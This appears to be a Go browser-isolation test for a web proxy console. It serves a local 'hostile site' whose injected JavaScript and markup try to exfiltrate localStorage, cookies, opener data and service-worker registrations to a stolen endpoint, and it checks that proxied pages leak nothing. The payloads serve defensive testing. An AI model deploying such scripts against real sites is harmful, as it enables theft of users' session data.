package clients

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/farwire/farwire/internal/harness"
)

// A hostileSite serves pages that want what belongs to the console, and counts what
// they get out.
type hostileSite struct {
	*httptest.Server
	mu     sync.Mutex
	stolen []string
}

// attack is what each page runs. HOME is where it tells of what it has got.
const attack = `
const tell = (what) => { new Image().src = 'HOME/stolen?' + encodeURIComponent(what); };
tell('script ran');
try { tell('storage ' + localStorage.getItem('of-the-console')); } catch (e) { tell('no storage') }
try { tell('cookie ' + document.cookie); } catch (e) {}
try { if (window.opener) { tell('opener ' + window.opener.document.title); window.opener.location = 'HOME/stolen?opener'; } } catch (e) {}
try { navigator.serviceWorker.register('sw.js', { scope: '/' }).then(() => tell('worker')); } catch (e) {}
try { fetch('/usage').then((r) => r.text()).then((t) => tell('usage ' + t)); } catch (e) {}
try { top.location = 'HOME/stolen?top'; } catch (e) {}
document.forms[0]?.submit();
`

const markup = `<meta http-equiv="refresh" content="0; url=HOME/stolen?refresh">
<base href="HOME/stolen?base/">
<link rel="stylesheet" href="HOME/stolen?style"><link rel="preload" as="image" href="HOME/stolen?preload">
<img src="HOME/stolen?image"><iframe src="HOME/stolen?frame"></iframe><iframe src="/" onload="parent.x"></iframe>
<object data="HOME/stolen?object"></object><embed src="HOME/stolen?embed"><video src="HOME/stolen?video"></video>
<form id="f" action="HOME/stolen" method="post"><input name="form" value="posted"><button id="post">post</button></form>
<a id="open" target="_blank" rel="opener" href="HOME/stolen?link-is-a-click">link</a>
<script>SCRIPT</script><script src="evil.js"></script>
<svg onload="new Image().src='HOME/stolen?svg'"></svg><img src="x:" onerror="this.src='HOME/stolen?onerror'">`

func newHostileSite(t *testing.T) *hostileSite {
	s := new(hostileSite)
	s.Server = httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		text := strings.NewReplacer("SCRIPT", attack).Replace(markup)
		h := rw.Header()
		h.Set("Service-Worker-Allowed", "/")
		h.Set("Content-Security-Policy", "default-src * 'unsafe-inline'")
		h.Set("Access-Control-Allow-Origin", "*")
		h.Set("Clear-Site-Data", `"*"`)
		h.Set("Link", `<HOME/stolen?header-style>; rel=stylesheet, <HOME/stolen?header-preload>; rel=preload; as=image`)
		status := 200
		switch r.URL.Path {
		case "/stolen":
			s.mu.Lock()
			defer s.mu.Unlock()
			s.stolen = append(s.stolen, r.Method+" "+r.URL.RawQuery)
			return
		case "/page.html":
			h.Set("Content-Type", "text/html")
		case "/error.html":
			h.Set("Content-Type", "text/html")
			status = 404
		case "/untyped":
			h["Content-Type"] = nil
		case "/page.xhtml":
			h.Set("Content-Type", "application/xhtml+xml")
			text = `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>//<![CDATA[` + attack + `//]]></script></head><body><iframe src="HOME/stolen?frame"/></body></html>`
		case "/image.svg":
			h.Set("Content-Type", "image/svg+xml")
			text = `<svg xmlns="http://www.w3.org/2000/svg" onload="new Image().src='HOME/stolen?svg'"><script>//<![CDATA[` + attack + `//]]></script><image href="HOME/stolen?image"/></svg>`
		case "/evil.js", "/sw.js":
			h.Set("Content-Type", "text/javascript")
			text = attack
		default:
			status = 404
		}
		home := "http://" + r.Host
		for name, values := range h {
			for i := range values {
				h[name][i] = strings.ReplaceAll(values[i], "HOME", home)
			}
		}
		rw.WriteHeader(status)
		fmt.Fprint(rw, strings.ReplaceAll(text, "HOME", home))
	}))
	t.Cleanup(s.Close)
	return s
}

// take returns what was stolen since the last call.
func (s *hostileSite) take() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := s.stolen
	s.stolen = nil
	return out
}

// A page that a target serves through the path form, at the origin of the console,
// runs no script, loads nothing, posts no form and reaches neither the console's
// storage, nor its window, nor a service worker.
func TestHostile_Page_GetsNothingOfTheConsole(t *testing.T) {
	site := newHostileSite(t)
	g := harness.Serve(t, "--allow-private", "--rate", "1000")
	tab := chromium(t, func(any) {})
	do := func(steps ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		if err := chromedp.Do(tab, steps...); err != nil {
			t.Fatal(err)
		}
	}
	eval := func(expression string) string {
		t.Helper()
		v, err := chromedp.Run(tab, chromedp.Evaluate[string](expression, chromedp.EvalAwaitPromise))
		if err != nil {
			t.Fatalf("%s: %v", expression, err)
		}
		return v
	}
	pages := []string{"/page.html", "/error.html", "/untyped", "/page.xhtml", "/image.svg"}
	base := g.HTTP("/to/key=" + g.Key + "/http/" + strings.TrimPrefix(site.URL, "http://"))

	// At their own origin the pages get out what they can: the test would see it. That is
	// another site than the one of the rest, and has no opener to lead away: it may go on.
	own := newHostileSite(t)
	eval(fmt.Sprintf(`window.open(%q, '', 'noopener'), ''`, own.URL+"/page.html"))
	var stolen []string
	for end := time.Now().Add(harness.Timeout); len(stolen) <= 5; time.Sleep(10 * time.Millisecond) {
		if stolen = append(stolen, own.take()...); time.Now().After(end) {
			t.Fatalf("the hostile page does nothing at its own origin: %v", stolen)
		}
	}

	do(chromedp.Navigate(g.HTTP("/")))
	eval(`localStorage.setItem('of-the-console', 'secret'), document.title = 'console', ''`)
	for _, page := range pages {
		// In a window that the console has opened, and in a frame of it.
		do(chromedp.Navigate(g.HTTP("/")))
		eval(`document.title = 'console', ''`)
		eval(fmt.Sprintf(`new Promise((done) => {
			const opened = window.open(%q);
			(function look() { // until it is a page that nobody may look into
				try {
					opened.location.href;
					setTimeout(look, 10);
				} catch {
					opened.close();
					done('');
				}
			})();
		})`, base+page))
		if title, at := eval(`document.title`), eval(`location.href`); title != "console" || at != g.HTTP("/") {
			t.Errorf("%s: the console is %q at %s", page, title, at)
		}
		// In the tab itself, by a person who presses each link and button.
		do(chromedp.Navigate(base + page))
		for range 6 { // with the keyboard: no script runs there that could find an element
			do(chromedp.KeyEvent(kb.Tab), chromedp.KeyEvent(kb.Enter))
		}
		// Requests of the browser are in order: when this one is answered, those that the
		// page was to send have been sent.
		do(chromedp.Navigate(g.HTTP("/")))
		if at := eval(`location.href`); at != g.HTTP("/") {
			t.Fatalf("%s: the tab is at %s", page, at)
		}
		if got := eval(`localStorage.getItem('of-the-console') ?? ''`); got != "secret" {
			t.Errorf("%s: the console's storage is %q", page, got)
		}
		if got := eval(`navigator.serviceWorker.getRegistrations().then((r) => String(r.length))`); got != "0" {
			t.Errorf("%s: %s service workers", page, got)
		}
		if stolen := site.take(); len(stolen) > 0 {
			t.Errorf("%s got out: %q", page, stolen)
		}
	}
	// Even the console's own script makes no worker of a target's file for its origin.
	if got := eval(fmt.Sprintf(`navigator.serviceWorker.register(%q, { scope: '/' }).then(() => 'registered', (e) => e.name)`, base+"/sw.js")); got == "registered" {
		t.Error("a target's script is the worker of the whole origin")
	}
}
